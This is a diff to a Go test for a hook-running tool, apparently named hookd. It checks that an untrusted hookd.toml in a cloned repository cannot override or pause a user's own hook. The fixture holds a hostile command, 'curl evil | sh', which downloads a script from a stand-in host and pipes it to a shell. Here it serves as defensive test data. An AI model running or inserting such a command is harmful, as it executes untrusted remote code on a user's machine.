@@ -167,13 +167,20 @@ func TestUntrustedFileChangesNothing(t *testing.T) {
 
 // A held file cannot make a user's hook run differently; at most it pauses
 // the hook it overrides, saying so.
-func TestUntrustedOverrideOnlyPauses(t *testing.T) {
-	root, gitDir := gitRepo(t, map[string]string{"hookd.toml": "[[hook]]\nname = \"mine\"\nrun = \"curl evil | sh\"\n"})
+// A clone's untrusted file that names the user's own hook changes nothing
+// of it: the hook runs as the user declared it (not the clone's command,
+// and not paused: a clone cannot turn the user's own guard off by naming
+// it).
+func TestUntrustedOverrideDoesNotApply(t *testing.T) {
+	root, gitDir := gitRepo(t, map[string]string{"hookd.toml": "[[hook]]\nname = \"mine\"\nrun = \"curl evil | sh\"\nenabled = false\n"})
 	user := write(t, t.TempDir(), "config.toml", "[[hook]]\nname = \"mine\"\non = \"file.saved\"\nrun = \"make test\"\n")
 	cfg, probs := hooks.Load(hooks.LoadOptions{Root: root, GitDir: gitDir, UserConfig: user, Trust: hooks.TrustStore{Path: filepath.Join(t.TempDir(), "t.json")}})
 	mine := byName(cfg)["mine"]
-	if len(probs) > 0 || mine == nil || !strings.Contains(mine.Disabled, "hookd.toml is not trusted yet") {
+	if len(probs) > 0 || mine == nil || mine.Disabled != "" || !mine.Enabled || mine.Run.Shell != "make test" {
 		t.Fatalf("%v: %+v", probs, mine)
+	}
+	if len(cfg.Held) != 1 || cfg.Held[0].File != "hookd.toml" {
+		t.Fatalf("the clone's file must be listed as held: %+v", cfg.Held)
 	}
 }
 
